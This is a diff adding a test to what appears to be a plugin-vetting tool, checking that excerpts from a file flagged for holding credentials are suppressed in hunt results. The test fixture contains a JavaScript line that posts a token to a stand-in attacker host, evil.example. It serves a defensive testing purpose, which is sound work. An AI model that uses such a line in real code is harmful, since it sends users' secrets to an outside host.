@@ -24,6 +24,7 @@ from tests.factories import (
     ArtifactFactory,
     ComponentFactory,
     DetectionRuleFactory,
+    FindingFactory,
     PluginVersionFactory,
     UserFactory,
     VettingRunFactory,
@@ -117,6 +118,18 @@ def test_a_rule_that_never_ends_answers_for_nothing(monkeypatch):
 
     assert counters(found) == (HuntState.DONE, 1, 1, 0, 1)
     assert "took longer than 1 seconds" in HuntGap.objects.get().reason
+
+
+def test_no_text_is_kept_of_a_file_that_holds_credentials():
+    holder = version("fetch('https://evil.example', {token: 'very-secret'})\n")
+    FindingFactory(run=VettingRunFactory(version=holder, evidence=False), check_code="secrets", path="index.js")
+    version()
+
+    carried_out(hunt())
+
+    texts = dict(HuntHit.objects.values_list("version", "excerpt"))
+    assert "credentials were found in this file" in texts.pop(holder.pk)
+    assert list(texts.values()) == ["fetch('https://evil.example')"]
 
 
 def test_a_batch_that_takes_long_ends_and_its_rest_waits(monkeypatch):
